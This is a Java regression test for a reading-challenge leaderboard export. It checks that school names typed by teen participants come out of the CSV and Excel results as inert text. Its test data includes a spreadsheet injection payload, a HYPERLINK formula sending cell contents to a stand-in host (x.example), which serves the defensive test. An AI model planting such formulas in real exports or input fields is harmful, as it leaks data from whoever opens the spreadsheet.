package id.serambi.challenge.leaderboard;

import id.serambi.challenge.ChallengeFixtures;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;

import id.serambi.support.Accounts;
import id.serambi.support.Xlsx;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.io.StringReader;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Issue 13, finding 5: a teen's school came out of the challenge results CSV as a live formula. */
@QuarkusTest
class ResultsCsvTest {

    @Inject
    AgroalDataSource db;

    @Test
    void aSchoolThatASpreadsheetWouldRunComesOutAsText() throws Exception {
        String staff = Accounts.tokenFor(db, "STAFF");
        Map<String, Object> body = ChallengeFixtures.body();
        body.put("schools", List.of()); // any school may be typed in
        long challenge = ChallengeFixtures.published(staff, body);
        String first = ChallengeFixtures.nickname("Rumus");
        String second = ChallengeFixtures.nickname("Lama");
        ChallengeFixtures.member(challenge, first, "SMP 1;=1+1");
        ChallengeFixtures.member(challenge, second, "SMP 2");
        // A school stored before schools were checked (the example).
        Accounts.sql(db, "UPDATE participant SET school = ? WHERE challenge_id = ? AND nickname = ?",
                "=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")", challenge, second);

        String csv = given().auth().oauth2(staff).accept("text/csv").get("/api/challenges/" + challenge + "/results")
                .then().statusCode(200).extract().asString();
        List<CSVRecord> rows = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.substring(1))).getRecords();
        Map<String, String> schools = rows.stream().collect(Collectors.toMap(r -> r.get("nickname"), r -> r.get("school")));
        assertEquals("SMP 1;'=1+1", schools.get(first), csv);
        assertEquals("'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")", schools.get(second), csv);
        assertEquals("0", rows.get(0).get("points"));

        // Issue 17 point 11: the Excel file keeps the school as typed, in a text cell, under Indonesian headers.
        byte[] file = given().auth().oauth2(staff).accept(Xlsx.MEDIA_TYPE).get("/api/challenges/" + challenge + "/results")
                .then().statusCode(200).contentType(Xlsx.MEDIA_TYPE).extract().asByteArray();
        List<org.dhatim.fastexcel.reader.Row> sheet = Xlsx.rows(file);
        assertEquals(List.of("Peringkat", "Nama panggilan", "Sekolah", "Poin", "Buku", "Halaman", "Menit", "Disembunyikan"),
                Xlsx.texts(sheet.get(0)));
        assertEquals(3, sheet.size());
        Map<String, String> xlsxSchools = sheet.subList(1, 3).stream()
                .collect(Collectors.toMap(r -> r.getCellText(1), r -> r.getCellText(2)));
        assertEquals("SMP 1;=1+1", xlsxSchools.get(first));
        assertEquals("=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")", xlsxSchools.get(second));
        assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, sheet.get(1).getCell(2).getType());
        assertEquals("Tidak", sheet.get(1).getCellText(7));
        assertEquals(0, sheet.get(1).getCellAsNumber(3).orElseThrow().intValue());
    }
}
